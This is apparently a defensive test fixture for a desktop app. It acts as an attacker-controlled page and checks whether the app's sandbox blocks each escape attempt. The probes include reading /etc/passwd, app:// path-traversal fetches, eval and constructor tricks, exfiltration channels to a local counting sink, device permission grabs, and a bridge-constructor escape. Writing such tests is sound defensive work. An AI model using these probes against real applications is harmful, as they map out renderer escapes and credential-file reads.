// The page of an attacker who has taken over everything that the window shows. It is put into a copy of the packed application in
// place of the real page, so it meets the real shell. Each probe answers 'blocked', or what it was able to do.
// SINK is replaced by the address of a server on this machine that counts whatever reaches it.
const SINK = '127.0.0.1:0';
const http = `http://${SINK}`;
const WAIT_MS = 1500;

const within = (work, late = 'blocked') =>
  Promise.race([
    Promise.resolve()
      .then(work)
      .catch(() => 'blocked'),
    new Promise((resolve) => setTimeout(resolve, WAIT_MS, late)),
  ]);
const loads = (element, to) =>
  new Promise((resolve) => {
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('blocked');
    to.append(element);
  });
const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
const reaches = async (url, options) => {
  const response = await fetch(url, options);
  return `answered ${response.status} ${response.type}`;
};
/** Text given to a timer would run as code in the page, outside any caller's rights. */
const runsText = (how, mark) =>
  new Promise((resolve) => {
    delete document.documentElement.dataset[mark];
    setTimeout(() => {
      try {
        how(`document.documentElement.dataset.${mark} = 'ran'`);
      } catch {
        // Refused.
      }
    });
    setTimeout(() => resolve(document.documentElement.dataset[mark] === 'ran' ? 'ran' : 'blocked'), 200);
  });

const probes = {
  'fetch-http': () => reaches(`${http}/fetch`, { mode: 'no-cors' }),
  'fetch-https': () => reaches('https://example.org/', { mode: 'no-cors' }),
  'fetch-file': () => reaches('file:///etc/passwd'),
  'fetch-outside-list': async () => {
    const answers = [];
    for (const path of [
      'app://chancery/../main.js',
      'app://chancery/%2e%2e/main.js',
      'app://chancery/..%2fmain.js',
      'app://chancery/package.json',
      'app://reader/index.html',
      'app://reader/page.js',
      'app://other/index.html',
      'app://chancery/index.html?x',
    ]) {
      const response = await fetch(path).catch(() => null);
      if (response?.ok) answers.push(path);
    }
    return answers.length === 0 ? 'blocked' : answers.join(' ');
  },
  beacon: () =>
    new Promise((resolve) => {
      // It says "queued" either way; the policy's own report tells.
      document.addEventListener('securitypolicyviolation', () => resolve('blocked'), { once: true });
      setTimeout(resolve, 500, 'queued');
      navigator.sendBeacon(`${http}/beacon`, 'x');
    }),
  image: () => loads(make('img', { src: `${http}/image.png` }), document.body),
  'style-sheet': () => loads(make('link', { rel: 'stylesheet', href: `${http}/style.css` }), document.head),
  'style-inline': async () => {
    const style = make('style', { textContent: ':root { --attacked: 1 }' });
    document.head.append(style);
    return getComputedStyle(document.documentElement).getPropertyValue('--attacked') === ''
      ? 'blocked'
      : 'applied';
  },
  'script-remote': () => loads(make('script', { src: `${http}/script.js` }), document.head),
  'script-blob': () =>
    loads(
      make('script', { src: URL.createObjectURL(new Blob(['window.ran = 1'], { type: 'text/javascript' })) }),
      document.head,
    ),
  'script-data': () => import('data:text/javascript,export default 1').then(() => 'ran'),
  'script-inline': async () => {
    document.head.append(
      make('script', { textContent: "document.documentElement.dataset.inlineAdded = 'ran'" }),
    );
    const { inlineAdded, inlineScript } = document.documentElement.dataset;
    return inlineAdded === 'ran' || inlineScript === 'ran' ? 'ran' : 'blocked';
  },
  'handler-inline': async () => {
    document.body.click();
    return document.documentElement.dataset.inlineHandler === 'ran' ? 'ran' : 'blocked';
  },
  eval: () => runsText((text) => (0, eval)(text), 'evaluated'),
  function: () => runsText((text) => new Function(text)(), 'constructed'),
  'timer-text': () => runsText((text) => setTimeout(text), 'timed'),
  'worker-blob': () =>
    new Promise((resolve) => {
      const worker = new Worker(
        URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })),
      );
      worker.onmessage = () => resolve('ran');
      worker.onerror = () => resolve('blocked');
    }),
  'service-worker': async () => {
    await navigator.serviceWorker.register('attack.js');
    return 'registered';
  },
  websocket: () =>
    new Promise((resolve) => {
      const socket = new WebSocket(`ws://${SINK}/`);
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve('blocked');
    }),
  'event-source': () =>
    new Promise((resolve) => {
      const source = new EventSource(`${http}/events`);
      source.onopen = () => resolve('open');
      source.onerror = () => resolve('blocked');
    }),
  webrtc: async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${SINK}` }] });
    const found = [];
    connection.onicecandidate = ({ candidate }) => {
      if (candidate?.address) found.push(candidate.address);
    };
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, WAIT_MS - 200));
    connection.close();
    return found.length === 0 ? 'blocked' : `candidates ${found.length}`;
  },
  hints: async () => {
    for (const rel of ['prefetch', 'dns-prefetch', 'preconnect', 'preload', 'modulepreload', 'prerender']) {
      document.head.append(make('link', { rel, href: `${http}/${rel}`, as: 'script' }));
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return performance
      .getEntriesByType('resource')
      .some(({ name, responseStatus }) => name.startsWith(http) && responseStatus > 0)
      ? 'fetched'
      : 'blocked';
  },
  'frame-file': () => framed('file:///etc/passwd'),
  'frame-http': () => framed(`${http}/frame`),
  'frame-own': () => framed('app://chancery/index.html'),
  'window-open': async () => {
    const opened = [
      window.open(`${http}/window`),
      window.open('about:blank'),
      window.open('app://chancery/index.html'),
    ];
    return opened.every((each) => each === null) ? 'blocked' : 'opened';
  },
  'link-blank': async () => {
    make('a', { href: `${http}/link`, target: '_blank' }).click();
    make('a', { href: `${http}/ping`, ping: `${http}/ping` }).click();
    return 'blocked';
  },
  navigation: async () => {
    location.href = `${http}/navigation`;
    await new Promise((resolve) => setTimeout(resolve, 300));
    location.assign('file:///etc/passwd');
    await new Promise((resolve) => setTimeout(resolve, 300));
    location.replace('app://reader/index.html');
    await new Promise((resolve) => setTimeout(resolve, 300));
    return location.href === 'app://chancery/index.html' ? 'blocked' : location.href;
  },
  form: async () => {
    const form = make('form', { action: `${http}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
    return 'blocked';
  },
  download: async () => {
    const link = make('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'attack.txt' });
    document.body.append(link);
    link.click();
    return 'blocked';
  },
  webview: async () => {
    document.body.append(Object.assign(document.createElement('webview'), { src: `${http}/webview` }));
    return 'getWebContentsId' in document.querySelector('webview') ? 'attached' : 'blocked';
  },
  geolocation: () =>
    new Promise((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve('located'),
        () => resolve('blocked'),
      );
    }),
  notifications: async () => {
    const permission = await Notification.requestPermission();
    return permission === 'denied' ? 'blocked' : permission;
  },
  camera: () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(() => 'opened'),
  screen: () => navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => 'opened'),
  'clipboard-read': () => navigator.clipboard.readText().then(() => 'read'),
  devices: async () => {
    const granted = [];
    for (const [name, ask] of [
      ['usb', () => navigator.usb.requestDevice({ filters: [] })],
      [
        'hid',
        () =>
          navigator.hid.requestDevice({ filters: [] }).then((list) => list[0] ?? Promise.reject(new Error())),
      ],
      ['serial', () => navigator.serial.requestPort()],
      ['bluetooth', () => navigator.bluetooth.requestDevice({ acceptAllDevices: true })],
      ['midi', () => navigator.requestMIDIAccess({ sysex: true })],
      ['files', () => window.showOpenFilePicker()],
      [
        'storage',
        () => navigator.storage.persist().then((isKept) => (isKept ? 1 : Promise.reject(new Error()))),
      ],
    ]) {
      if ((await within(() => ask().then(() => 'granted'))) === 'granted') granted.push(name);
    }
    return granted.length === 0 ? 'blocked' : granted.join(' ');
  },
  node: async () => {
    const found = [
      'require',
      'process',
      'module',
      'Buffer',
      'global',
      '__dirname',
      'electron',
      'ipcRenderer',
    ].filter((name) => name in globalThis);
    return found.length === 0 ? 'blocked' : found.join(' ');
  },
  'bridge-constructor': async () => {
    // The bridge's functions must not lead to the preload's own world.
    const { call } = window.chancery;
    const make = call.constructor;
    try {
      return typeof make('return typeof require')() === 'string' ? 'ran' : 'blocked';
    } catch {
      return 'blocked';
    }
  },
  'path-as-grant': async () => {
    const { result } = window.chancery.call('briefings.preview', { path: '/etc/passwd' });
    const answer = await result;
    return answer.ok ? 'read' : 'blocked';
  },
};

function framed(url) {
  return new Promise((resolve) => {
    const frame = make('iframe', { src: url });
    frame.onload = () => {
      try {
        // A refused frame shows an error page of another origin or stays empty.
        resolve(frame.contentDocument?.body?.childElementCount ? 'loaded' : 'blocked');
      } catch {
        resolve('blocked');
      }
    };
    document.body.append(frame);
  });
}

const results = {};
for (const [name, probe] of Object.entries(probes)) results[name] = await within(probe);
document.documentElement.dataset.results = JSON.stringify(results);
